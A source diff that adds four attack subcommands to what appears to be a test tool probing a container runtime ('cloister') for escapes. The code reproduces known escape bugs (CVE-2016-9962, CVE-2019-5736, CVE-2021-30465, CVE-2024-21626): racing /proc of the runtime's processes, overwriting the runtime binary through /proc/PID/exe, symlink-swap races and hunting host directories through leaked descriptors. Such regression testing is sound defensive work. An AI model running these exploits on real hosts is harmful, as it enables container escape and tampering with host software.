@@ -728,6 +728,176 @@ static int push_tty(char **a)
 	return worked ? 0 : -EPERM;
 }
 
+/* --- races with the runtime --------------------------------------------------------------------
+ */
+
+static bool is_runtime(pid_t pid)
+{
+	char comm[64] = "";
+
+	read_comm(pid, comm, sizeof(comm));
+	return strncmp(comm, "cloister", 8) == 0;
+}
+
+static int64_t milliseconds(void)
+{
+	struct timespec now;
+
+	clock_gettime(CLOCK_MONOTONIC, &now);
+	return now.tv_sec * 1000LL + now.tv_nsec / 1000000;
+}
+
+static bool executes_runtime(pid_t pid)
+{
+	char path[64], target[512];
+	ssize_t n;
+
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	n = readlink(path, target, sizeof(target) - 1);
+	target[n > 0 ? n : 0] = '\0';
+	return strstr(target, "cloister") != NULL;
+}
+
+/* Through /proc/PID of the runtime's process while it joins: what can be opened of it? */
+static int look_into(pid_t pid)
+{
+	static const char *const files[] = { "mem", "environ", "exe", "root", "cwd", "fd", "maps" };
+	int worked = 0;
+
+	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
+		char path[64];
+		int fd;
+
+		snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i]);
+		fd = open(path, O_RDONLY);
+		/* At its exec it gets its new name a moment after its new memory. */
+		if (fd >= 0 && executes_runtime(pid)) {
+			printf("opened %s of the runtime\n", path);
+			worked++;
+		}
+		if (fd >= 0)
+			close(fd);
+	}
+	return worked;
+}
+
+/* CVE-2016-9962. Prints "met N": how many times one of the runtime's processes was there to look
+ * at. */
+static int snoop(char **a)
+{
+	int64_t end = milliseconds() + atoi(a[0]);
+	int met = 0, worked = 0;
+
+	while (milliseconds() < end) {
+		DIR *proc = opendir("/proc");
+		struct dirent *de;
+
+		while (proc && (de = readdir(proc))) {
+			pid_t pid = atoi(de->d_name);
+
+			if (!is_number(de->d_name) || pid == getpid() || !is_runtime(pid))
+				continue;
+			met++;
+			worked += look_into(pid);
+		}
+		if (proc)
+			closedir(proc);
+	}
+	printf("met %d\n", met);
+	return worked ? 0 : -EPERM;
+}
+
+/* Hold @fd's program until nobody executes it, then open it for writing. */
+static int write_to_program(int fd)
+{
+	char path[64];
+
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	for (int i = 0; i < 200; i++) {
+		int w = open(path, O_WRONLY);
+
+		if (w >= 0 || errno != ETXTBSY)
+			return result(w);
+		usleep(5000);
+	}
+	return -ETXTBSY;
+}
+
+/*
+ * CVE-2019-5736: wait for a process that executes the runtime's program (a script with
+ * "#!/proc/self/exe" makes it do so), take hold of that program and write to it. Prints "reached
+ * N".
+ */
+static int overwrite_runtime(char **a)
+{
+	int64_t end = milliseconds() + atoi(a[0]);
+	int reached = 0, worked = 0, error = EPERM;
+
+	while (milliseconds() < end && !worked) {
+		DIR *proc = opendir("/proc");
+		struct dirent *de;
+
+		while (proc && (de = readdir(proc))) {
+			char path[64];
+			int fd, r;
+
+			if (!is_number(de->d_name) || atoi(de->d_name) == getpid() ||
+			    !executes_runtime(atoi(de->d_name)))
+				continue;
+			snprintf(path, sizeof(path), "/proc/%s/exe", de->d_name);
+			fd = open(path, O_RDONLY);
+			if (fd < 0)
+				continue;
+			reached++;
+			r = write_to_program(fd);
+			worked += r == 0;
+			error = r < 0 ? -r : error;
+			close(fd);
+		}
+		if (proc)
+			closedir(proc);
+	}
+	printf("reached %d\n", reached);
+	return worked ? 0 : -error;
+}
+
+/* CVE-2021-30465: swap A and B (a directory and a symlink, say) until the file STOP appears. */
+static int swap_forever(char **a)
+{
+	int n = 0;
+
+	while (access(a[2], F_OK) < 0) {
+		if (syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, a[1],
+			    2 /* RENAME_EXCHANGE */) < 0)
+			return -errno;
+		n++;
+	}
+	printf("swapped %d\n", n);
+	return 0;
+}
+
+/* CVE-2024-21626: does any descriptor, or the working directory, lead to a directory that has FILE?
+ */
+static int find_through_fds(char **a)
+{
+	int worked = access(a[0], F_OK) == 0;
+	char up[512];
+
+	for (int fd = 0; fd < 1024; fd++)
+		for (int depth = 0; depth < 8; depth++) {
+			int n = 0;
+
+			for (int i = 0; i < depth; i++)
+				n += snprintf(up + n, sizeof(up) - n, "../");
+			snprintf(up + n, sizeof(up) - n, "%s", a[0]);
+			if (faccessat(fd ? fd : AT_FDCWD, up, F_OK, 0) == 0) {
+				printf("found through %d\n", fd ? fd : -1);
+				worked++;
+			}
+		}
+	return worked ? 0 : -ENOENT;
+}
+
 /* --- facts -------------------------------------------------------------------------------------
  */
 
@@ -851,6 +1021,10 @@ static const struct attack {
 	{ "spoiled", spoiled, 1, "PROGRAM ARG..." },
 	{ "seize-all", seize_all, 1, "MILLISECONDS" },
 	{ "push-tty", push_tty, 1, "TEXT" },
+	{ "snoop", snoop, 1, "MILLISECONDS" },
+	{ "overwrite-runtime", overwrite_runtime, 1, "MILLISECONDS" },
+	{ "swap", swap_forever, 3, "A B STOP" },
+	{ "find-through-fds", find_through_fds, 1, "FILE" },
 	{ "kernel", show_kernel, 0, "" },
 	{ "clock", show_clock, 1, "realtime|monotonic|boottime" },
 	{ "ping", ping, 1, "ADDRESS" },
